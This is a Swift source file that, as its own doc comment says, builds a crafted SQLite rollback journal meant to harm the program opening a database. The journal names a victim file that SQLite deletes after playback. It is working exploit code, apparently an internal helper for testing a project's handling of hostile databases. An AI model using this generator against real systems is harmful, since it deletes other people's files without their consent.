// Core Location for Linux. SPDX-License-Identifier: MIT

import Foundation

/// Rollback journals made to do harm to the program that opens a database.
package enum RollbackJournal {
  /// Returns a journal that changes nothing, but names a file that SQLite deletes after playing it back.
  ///
  /// See "The Rollback Journal" in the description of SQLite's format, and `readSuperJournal` in its source.
  package static func deleting(_ victim: String, of database: String) throws -> [UInt8] {
    let magic: [UInt8] = [0xD9, 0xD5, 0x05, 0xF9, 0x20, 0xA1, 0x63, 0xD7]
    let pages = UInt32(try Data(contentsOf: URL(filePath: database)).count / 4096)
    let name = Array(victim.utf8)
    let sum = name.reduce(0 as UInt32) { $0 &+ UInt32(bitPattern: Int32(Int8(bitPattern: $1))) }
    let header = magic + bytes([0, 0, pages, 512, 4096])
    let padding = [UInt8](repeating: 0, count: 512 - header.count)
    // The name follows the number of the page that contains the byte at 1 GiB, which is never used.
    let record = bytes([(1 << 30) / 4096 + 1]) + name + bytes([UInt32(name.count), sum])
    return header + padding + record + magic
  }

  /// Returns numbers as SQLite stores them.
  package static func bytes(_ numbers: [UInt32]) -> [UInt8] {
    numbers.flatMap { number in withUnsafeBytes(of: number.bigEndian) { Array($0) } }
  }
}
